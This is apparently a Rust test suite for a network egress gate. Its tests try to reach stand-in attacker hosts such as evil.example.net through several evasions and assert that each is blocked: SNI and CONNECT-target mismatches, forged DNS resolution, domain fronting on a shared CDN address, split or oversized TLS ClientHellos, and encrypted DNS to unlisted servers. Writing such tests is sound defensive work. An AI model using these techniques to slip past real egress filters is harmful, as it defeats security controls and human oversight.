//! The decision and the destination are one: SNI against CONNECT target, two names on one address,
//! ClientHellos in pieces, ports, protocols that go around.

use crate::support::sandbox;
use crate::{assert_nothing_leaked, shared};

crate::attacks! {
    connect_to_one_name_with_the_sni_of_another,
    the_attacker_s_address_with_the_sni_of_a_listed_name,
    two_names_on_one_cdn_address,
    a_client_hello_in_pieces_is_read_whole_before_a_byte_leaves,
    a_client_hello_of_16_kib_and_one_that_never_ends,
    two_names_in_one_client_hello,
    dns_over_tls_https_and_quic_to_unlisted_servers,
    a_request_in_pieces_does_not_hide_its_host,
    plain_http_2_and_upgrades_do_not_hide_a_host,
}

fn connect_to_one_name_with_the_sni_of_another() {
    let world = shared::world();
    let ran = sandbox(&world).allow("dual.example.com").sh(
        "curl -sk -m 25 --connect-to evil.example.net:443:dual.example.com:443 https://evil.example.net/ && echo served; \
         curl -sk -m 25 --noproxy '*' --connect-to evil.example.net:443:dual.example.com:443 https://evil.example.net/ && echo served",
    );
    assert_eq!(ran.out(), "", "{ran}");
    assert_eq!(ran.records.about("evil.example.net").len(), 2, "{ran}");
    assert!(
        world
            .server_log()
            .iter()
            .all(|event| event.sni.as_deref() != Some("evil.example.net"))
    );
    assert_nothing_leaked(&world);
}

fn the_attacker_s_address_with_the_sni_of_a_listed_name() {
    let world = shared::world();
    let ran = sandbox(&world).allow("dual.example.com").sh(
        "curl -sk -m 25 --noproxy '*' --resolve dual.example.com:443:203.0.113.90 https://dual.example.com/ && echo served; \
         curl -sk -m 25 --socks5 10.0.2.2:1080 --resolve dual.example.com:443:203.0.113.90 https://dual.example.com/ && echo served; \
         curl -sk -m 25 --connect-to dual.example.com:443:203.0.113.90:443 https://dual.example.com/ && echo served",
    );
    assert_eq!(ran.out(), "", "{ran}");
    for protocol in ["kernel", "socks5", "connect"] {
        assert_eq!(
            ran.records.one(protocol, "203.0.113.90")["reason"],
            "address-not-leased",
            "{ran}"
        );
    }
    assert_nothing_leaked(&world);
}

fn two_names_on_one_cdn_address() {
    let world = shared::world();
    let ran = sandbox(&world).allow("a.shared.example.com").allow("b.shared.example.com").python(
        "import gate, socket\n\
         say = lambda name: print(name, gate.alert(gate.tcp('203.0.113.95', 443), gate.client_hello(name)))\n\
         socket.getaddrinfo('a.shared.example.com', 443)\n\
         for name in 'a.shared.example.com', 'evil-shared.example.net', 'b.shared.example.com': say(name)\n\
         socket.getaddrinfo('b.shared.example.com', 443)\n\
         say('b.shared.example.com')\n\
         s = gate.tcp('203.0.113.95', 80)\n\
         s.sendall(b'GET / HTTP/1.1\\r\\nHost: evil-shared.example.net\\r\\n\\r\\n')\n\
         print(gate.status(gate.read_all(s)[0].decode()))",
    );
    ran.assert_ok();
    assert_eq!(
        ran.out(),
        "a.shared.example.com handshake\nevil-shared.example.net alert 2 112 end\n\
         b.shared.example.com alert 2 112 end\nb.shared.example.com handshake\n403\n",
        "{ran}"
    );
    ran.assert_one_denial("tls", "sni-not-listed", "evil-shared.example.net");
    ran.assert_one_denial("tls", "sni-mismatch", "b.shared.example.com");
    let evil = world.server_log().into_iter().find(|event| {
        event.sni.as_deref().is_some_and(|sni| sni.contains("evil"))
            || event.head_text().contains("evil")
    });
    assert!(evil.is_none(), "{evil:?}");
}

fn a_client_hello_in_pieces_is_read_whole_before_a_byte_leaves() {
    let world = shared::world();
    let ran = sandbox(&world).allow("dual.example.com").python(
        "import gate, struct, time\n\
         def records(hello, size):\n\
         \x20body = hello[5:]\n\
         \x20return b''.join(b'\\x16\\x03\\x01' + struct.pack('!H', len(body[i:i + size])) + body[i:i + size] for i in range(0, len(body), size))\n\
         def segments(name, size, wrap=None):\n\
         \x20hello = gate.client_hello(name)\n\
         \x20hello = records(hello, wrap) if wrap else hello\n\
         \x20s = gate.tcp('dual.example.com', 443); s.setsockopt(6, 1, 1)\n\
         \x20for i in range(0, len(hello) - size, size): s.sendall(hello[i:i + size]); time.sleep(0.001)\n\
         \x20return gate.alert(s, hello[(len(hello) - 1) // size * size:])\n\
         for name in 'dual.example.com', 'pieces.evil.example.net':\n\
         \x20print(segments(name, 1), segments(name, 100, 7), segments(name, 5000, 50), segments(name, 3, 40), sep=', ')",
    );
    ran.assert_ok();
    let (good, bad) = ("handshake", "alert 2 112 end");
    assert_eq!(
        ran.out(),
        format!("{good}, {good}, {good}, {good}\n{bad}, {bad}, {bad}, {bad}\n"),
        "{ran}"
    );
    assert_nothing_leaked(&world);
}

fn a_client_hello_of_16_kib_and_one_that_never_ends() {
    let world = shared::world();
    let ran = sandbox(&world).allow("dual.example.com").python(
        "import gate, struct\n\
         def grown(name, more):\n\
         \x20hello = gate.client_hello(name); body = bytearray(hello[9:])\n\
         \x20at = 34; at += 1 + body[at]; at += 2 + struct.unpack_from('!H', body, at)[0]; at += 1 + body[at]\n\
         \x20body += struct.pack('!2H', 0xfde8, more) + bytes(more)\n\
         \x20struct.pack_into('!H', body, at, len(body) - at - 2)\n\
         \x20message = b'\\x01' + struct.pack('!I', len(body))[1:] + bytes(body)\n\
         \x20return b''.join(b'\\x16\\x03\\x01' + struct.pack('!H', len(m)) + m for m in (message[i:i + 16384] for i in range(0, len(message), 16384)))\n\
         for name in 'dual.example.com', 'grown.evil.example.net':\n\
         \x20print(gate.alert(gate.tcp('dual.example.com', 443), grown(name, 15500)))\n\
         endless = b'\\x16\\x03\\x01\\x40\\0\\x01\\xff\\xff\\xff' + bytes(16380)\n\
         print(gate.alert(gate.tcp('dual.example.com', 443), endless + (b'\\x16\\x03\\x01\\x40\\0' + bytes(16384)) * 8).split()[0])",
    );
    ran.assert_ok();
    let out = ran.out();
    assert!(out.starts_with("handshake\nalert 2 112 end\n"), "{ran}");
    assert!(!out.ends_with("handshake\n"), "{ran}");
    assert_nothing_leaked(&world);
}

fn two_names_in_one_client_hello() {
    let world = shared::world();
    let ran = sandbox(&world).allow("dual.example.com").python(
        "import gate, struct\n\
         def doubled(first, second):\n\
         \x20hello = gate.client_hello(first)\n\
         \x20name = first.encode(); entry = b'\\0' + struct.pack('!H', len(name)) + name\n\
         \x20old = struct.pack('!2H', 0, len(entry) + 2) + struct.pack('!H', len(entry)) + entry\n\
         \x20assert hello.count(old) == 1\n\
         \x20other = second.encode(); entry += b'\\0' + struct.pack('!H', len(other)) + other\n\
         \x20new = struct.pack('!2H', 0, len(entry) + 2) + struct.pack('!H', len(entry)) + entry\n\
         \x20body = bytearray(hello[9:].replace(old, new))\n\
         \x20at = 34; at += 1 + body[at]; at += 2 + struct.unpack_from('!H', body, at)[0]; at += 1 + body[at]\n\
         \x20struct.pack_into('!H', body, at, len(body) - at - 2)\n\
         \x20message = b'\\x01' + struct.pack('!I', len(body))[1:] + bytes(body)\n\
         \x20return b'\\x16\\x03\\x01' + struct.pack('!H', len(message)) + message\n\
         for names in ('dual.example.com', 'evil.example.net'), ('evil.example.net', 'dual.example.com'):\n\
         \x20print(gate.alert(gate.tcp('dual.example.com', 443), doubled(*names)))",
    );
    ran.assert_ok();
    assert_eq!(ran.out().matches("alert 2 ").count(), 2, "{ran}");
    assert!(
        world
            .server_log()
            .iter()
            .all(|event| event.sni.as_deref() != Some("evil.example.net"))
    );
}

fn dns_over_tls_https_and_quic_to_unlisted_servers() {
    let world = shared::world();
    let ran = sandbox(&world).allow("dual.example.com").python(
        "import gate\n\
         for server in '8.8.8.8', '198.51.100.8', '2001:db8:10::53':\n\
         \x20print(gate.attempt(server, 853), gate.attempt(server, 443), gate.datagram(server, 853, bytes(1200)), gate.datagram(server, 443, bytes(1200)))",
    );
    ran.assert_ok();
    for line in ran.out().lines() {
        assert!(line.starts_with("ECONNREFUSED ECONNREFUSED E"), "{ran}");
        assert!(
            !line.contains("silence") && !line.contains("answered"),
            "{ran}"
        );
    }
    let ran = sandbox(&world)
        .allow("dual.example.com")
        .sh("curl -sk -m 25 --doh-url https://8.8.8.8/dns-query --noproxy '*' https://doh.evil.example.net/ && echo served");
    assert_eq!(ran.out(), "", "{ran}");
    assert_nothing_leaked(&world);
}

fn a_request_in_pieces_does_not_hide_its_host() {
    let world = shared::world();
    let ran = sandbox(&world).allow("dual.example.com").python(
        "import gate, time\n\
         s = gate.tcp('dual.example.com', 80)\n\
         s.sendall(b'GE'); time.sleep(3)\n\
         s.sendall(b'T / HTTP/1.1\\r\\nHost: pieces.evil.example.net\\r\\n\\r\\n')\n\
         print(gate.read_all(s))",
    );
    ran.assert_ok();
    assert_eq!(ran.out(), "(b'', 'ECONNRESET')\n", "{ran}");
    ran.assert_one_denial("http", "malformed", "dual.example.com");
    assert!(
        world
            .server_log()
            .iter()
            .all(|event| !event.head_text().contains("pieces.evil"))
    );
}

fn plain_http_2_and_upgrades_do_not_hide_a_host() {
    let world = shared::world();
    let ran = sandbox(&world).allow("dual.example.com").python(
        "import gate\n\
         s = gate.tcp('dual.example.com', 80); s.sendall(b'PRI * HTTP/2.0\\r\\n\\r\\nSM\\r\\n\\r\\n' + bytes(9)); print(gate.read_all(s)[0][3:4])\n\
         s = gate.tcp('dual.example.com', 80)\n\
         s.sendall(b'GET /up HTTP/1.1\\r\\nHost: dual.example.com\\r\\nConnection: Upgrade, HTTP2-Settings\\r\\nUpgrade: h2c\\r\\nHTTP2-Settings: AA\\r\\n\\r\\n')\n\
         s.sendall(b'GET / HTTP/1.1\\r\\nHost: second.evil.example.net\\r\\nConnection: close\\r\\n\\r\\n')\n\
         print(gate.read_all(s)[0].decode().count('HTTP/1.1 403'))",
    );
    ran.assert_ok();
    assert_eq!(ran.out(), "b'\\x04'\n1\n", "{ran}");
    assert!(
        world
            .server_log()
            .iter()
            .all(|event| !event.head_text().contains("second.evil"))
    );
}
